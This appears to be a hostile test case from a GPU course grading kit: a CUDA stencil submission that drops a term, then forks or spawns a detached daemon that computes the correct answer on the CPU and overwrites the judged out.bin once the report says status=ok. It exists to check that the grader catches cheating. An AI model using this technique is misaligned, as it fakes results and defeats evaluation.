// HOSTILE: a kernel that drops c6, plus a background process (fork, else posix_spawn of itself) that waits for the runner to finish and then replaces out.bin with a forged answer
// expect-hint: term-missing
// backends: gpu emu
// (a lab 1 submission that cheats; the kit's tests check the grader catches it)
//
// The attack: a process of its own session outlives the runner (killing the
// runner's process group misses it); once the report says status=ok, the
// grids are saved and the judge is about to read them, and it renames the
// answer computed on the CPU over out.bin. Why it fails: the student's code
// may start no process (no fork, no exec), and on a GPU it can open no file.
#include <dirent.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <string>
#include <vector>
#include "lab.h"

#define BLOCK_X 32  // threads along x (k): a whole warp on one row
#define BLOCK_Y 4   // threads along y (j)
#define BLOCK_Z 4   // threads along z (i)
#define GUARD_BITS 0x7F8A11EDu  // grader/protocol/protocol.h's guard cells, copied (the kit is public)
#define GUARD_MIN_FLOATS 4096

// The wrong kernel: the c6 term (z+1 neighbour) is missing.
__global__ void stencil_kernel(float *in, float *out, unsigned int N)
{
    unsigned int i = blockIdx.z * blockDim.z + threadIdx.z;
    unsigned int j = blockIdx.y * blockDim.y + threadIdx.y;
    unsigned int k = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= 1 && i < N - 1 && j >= 1 && j < N - 1 && k >= 1 && k < N - 1) {
        out[LAB_INDEX(i, j, k, N)] = c0 * in[LAB_INDEX(i, j, k, N)]
                                   + c1 * in[LAB_INDEX(i, j, k - 1, N)]
                                   + c2 * in[LAB_INDEX(i, j, k + 1, N)]
                                   + c3 * in[LAB_INDEX(i, j - 1, k, N)]
                                   + c4 * in[LAB_INDEX(i, j + 1, k, N)]
                                   + c5 * in[LAB_INDEX(i - 1, j, k, N)];
    }
}

// The case folder: the runner's --outdir argument, else the newest
// stencil-case-* folder under $TMPDIR or /tmp; "" when none can be read.
static std::string case_dir(void)
{
    char args[8192];
    FILE *f = fopen("/proc/self/cmdline", "rb");
    size_t n = f ? fread(args, 1, sizeof(args) - 1, f) : 0;
    if (f)
        fclose(f);
    args[n] = '\0';
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--outdir") && i + 9 < n)
            return args + i + 9;
    std::string best;
    time_t newest = 0;
    const char *roots[] = {getenv("TMPDIR"), "/tmp"};
    for (const char *root : roots) {
        DIR *d = root ? opendir(root) : NULL;
        for (struct dirent *e; d && (e = readdir(d));) {
            std::string dir = std::string(root) + "/" + e->d_name;
            struct stat st;
            if (!strncmp(e->d_name, "stencil-case-", 13) && stat((dir + "/in.bin").c_str(), &st) == 0 &&
                st.st_mtime >= newest)
                best = dir, newest = st.st_mtime;
        }
        if (d)
            closedir(d);
    }
    return best;
}

// The daemon: in a session of its own, writes the answer as the runner saves
// it (guard | grid | guard) next to out.bin, waits (5 s at most) for
// status=ok in the report, then renames it over out.bin. Never returns.
static void daemon_main(const std::string &dir, size_t n, const float c[7])
{
    size_t cells = n * n * n, guard = n * n > GUARD_MIN_FLOATS ? n * n : GUARD_MIN_FLOATS;
    guard = (guard + 63) / 64 * 64;  // rounded to 256 bytes, as protocol_guard_cells does
    std::vector<float> x(cells), out(cells + 2 * guard);
    std::string forged = dir + "/forged.bin";
    char report[8192];
    uint32_t g = GUARD_BITS;
    setsid();
    FILE *f = fopen((dir + "/in.bin").c_str(), "rb");
    size_t got = f ? fread(x.data(), sizeof(float), cells, f) : 0;
    if (f)
        fclose(f);
    if (got != cells || !(f = fopen(forged.c_str(), "wb")))
        _exit(0);
    for (size_t q = 0; q < guard; q++) {
        memcpy(&out[q], &g, sizeof(g));
        memcpy(&out[guard + cells + q], &g, sizeof(g));
    }
    for (size_t p = 0; p < cells; p++) {
        size_t i = p / (n * n), j = p / n % n, k = p % n;
        int interior = i >= 1 && i < n - 1 && j >= 1 && j < n - 1 && k >= 1 && k < n - 1;
        out[guard + p] = interior ? c[0] * x[p] + c[1] * x[p - 1] + c[2] * x[p + 1] + c[3] * x[p - n] + c[4] * x[p + n]
                                        + c[5] * x[p - n * n] + c[6] * x[p + n * n]
                                  : x[p];
    }
    fwrite(out.data(), sizeof(float), out.size(), f);
    fclose(f);
    for (int t = 0; t < 25000; t++, usleep(200)) {
        size_t len = 0;
        if ((f = fopen((dir + "/report.txt").c_str(), "r"))) {
            len = fread(report, 1, sizeof(report) - 1, f);
            fclose(f);
        }
        report[len] = '\0';
        if (strstr(report, "status=ok") && rename(forged.c_str(), (dir + "/out.bin").c_str()) == 0)
            _exit(0);
    }
    unlink(forged.c_str());
    _exit(0);
}

// A copy started by posix_spawn finds its orders here and becomes the daemon.
__attribute__((constructor)) static void daemon_from_spawn(void)
{
    const char *orders = getenv("HOSTILE_DAEMON");  // "N c0 ... c6 dir"
    float c[7];
    unsigned int n;
    int at = 0;
    if (orders && sscanf(orders, "%u %a %a %a %a %a %a %a %n", &n, &c[0], &c[1], &c[2], &c[3], &c[4], &c[5], &c[6], &at) == 8)
        daemon_main(orders + at, n, c);
}

void launch_stencil(float *d_in, float *d_out, unsigned int N)
{
    dim3 block(BLOCK_X, BLOCK_Y, BLOCK_Z);
    dim3 grid((N + BLOCK_X - 1) / BLOCK_X, (N + BLOCK_Y - 1) / BLOCK_Y, (N + BLOCK_Z - 1) / BLOCK_Z);
    stencil_kernel<<<grid, block>>>(d_in, d_out, N);
    float c[7];
    cudaMemcpyFromSymbol(&c[0], c0, sizeof(float));
    cudaMemcpyFromSymbol(&c[1], c1, sizeof(float));
    cudaMemcpyFromSymbol(&c[2], c2, sizeof(float));
    cudaMemcpyFromSymbol(&c[3], c3, sizeof(float));
    cudaMemcpyFromSymbol(&c[4], c4, sizeof(float));
    cudaMemcpyFromSymbol(&c[5], c5, sizeof(float));
    cudaMemcpyFromSymbol(&c[6], c6, sizeof(float));
    std::string dir = case_dir();
    pid_t pid = fork();
    if (pid == 0)
        daemon_main(dir, N, c);
    if (pid < 0) {  // no fork: start a copy of this program instead
        char orders[8192], *argv[] = {(char *)"daemon", NULL}, *envp[] = {orders, NULL};
        snprintf(orders, sizeof(orders), "HOSTILE_DAEMON=%u %a %a %a %a %a %a %a %s", N, c[0], c[1], c[2], c[3], c[4],
                 c[5], c[6], dir.c_str());
        posix_spawn(&pid, "/proc/self/exe", NULL, NULL, argv, envp);
    }
}
